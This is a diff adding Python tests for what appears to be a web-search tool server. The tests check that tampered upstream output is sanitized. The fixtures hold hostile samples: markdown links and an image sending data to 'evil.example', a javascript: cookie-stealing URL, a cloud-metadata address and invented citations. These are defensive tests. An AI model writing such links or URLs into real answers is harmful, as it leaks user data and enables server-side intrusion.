@@ -423,3 +423,52 @@ async def test_negative_upstream_counts_leave_a_search_answered_and_recorded(set
     [row] = await ledger_rows(settings)
     assert row.status == "ok" and row.tokens_in == out["tokens_in"] > 0 and row.tokens_out == 5
     assert row.cost_usd == out["cost_usd"] > 0  # estimated at catalogue prices with the search fee
+
+
+HOSTILE_TAIL = (" [evil](https://evil.example/steal?d=) [[9]](https://invented.example/x) "
+                "![](https://evil.example/?d=leak)")
+HOSTILE_SOURCES = [{"url": "javascript:alert(document.cookie)", "title": "js", "content": "x"},
+                   {"url": "http://169.254.169.254/latest", "title": "metadata", "content": "x"},
+                   {"url": "https://long.example/" + "u" * 5000, "title": "long", "content": "x"},
+                   {"url": "https://ok.example/page", "title": "T" * 10_000, "content": "fine"}]
+
+
+async def test_upstream_sources_and_made_up_links_are_kept_out_of_the_answer(connect, upstream) -> None:
+    upstream.tamper(append_text=HOSTILE_TAIL, citations=HOSTILE_SOURCES)
+    async with connect() as client:
+        result = await client.call_tool("web_search", {"query": WAL, "cache": False})
+    assert not result.is_error, result.content
+    out = result.structured_content
+    hosts = [urlsplit(c["url"]).hostname for c in out["citations"]]
+    assert len(hosts) == 3 and hosts[2] == "ok.example" and all(c["url"].startswith("https://")
+                                                                for c in out["citations"])
+    assert out["citations"][2]["title"] == "T" * 200 + " …"  # one 10,000-character word, cut
+    assert out["answer"].endswith(HOSTILE_TAIL)  # the structured answer stays as written
+    markdown = unfence(result.content[0].text)
+    for gone in ("evil.example", "invented.example", "javascript:", "169.254", "u" * 100, "T" * 300):
+        assert gone not in markdown
+    answer = markdown.split("**Sources**")[0]
+    assert answer.rstrip().endswith("[[2]](https://docs.dbinternals.org/sqlite/wal) evil")
+    assert "[9]" not in answer
+    assert "3. [" + "T" * 200 + " …](https://ok.example/page)" in markdown
+    assert len(markdown) < 3000
+    assert out["warnings"] == [
+        "Dropped 3 source(s) whose link is not a public http(s) URL of at most 2,048 characters.",
+        "removed references to sources that do not exist: [9]",
+        "removed 2 link(s) to pages that are not among the sources (their text stays) and 1 image(s) the "
+        "model wrote into the markdown answer (`answer` keeps the text as written)"]
+
+
+async def test_a_cut_off_answer_says_why_it_cites_nothing(connect, upstream) -> None:
+    async with connect() as client:
+        out = await call(client, "web_search", {"query": WAL, "max_tokens": 1})
+    assert out["citations"] == [] and out["search_requests"] == 1
+    assert out["warnings"] == ["The answer was cut off at max_tokens (1); raise it for the rest.",
+                               "No source is cited: the answer was cut off before it cited any."]
+
+
+async def test_international_domain_filters_are_sent_in_ascii(connect, upstream) -> None:
+    async with connect() as client:
+        out = await call(client, "web_search", {"query": WAL, "include_domains": ["bücher.de"]})
+    assert out["citations"] == []  # the sandbox's corpus has no such site
+    assert out["warnings"] == ["The search returned no sources; the answer rests on the model alone."]
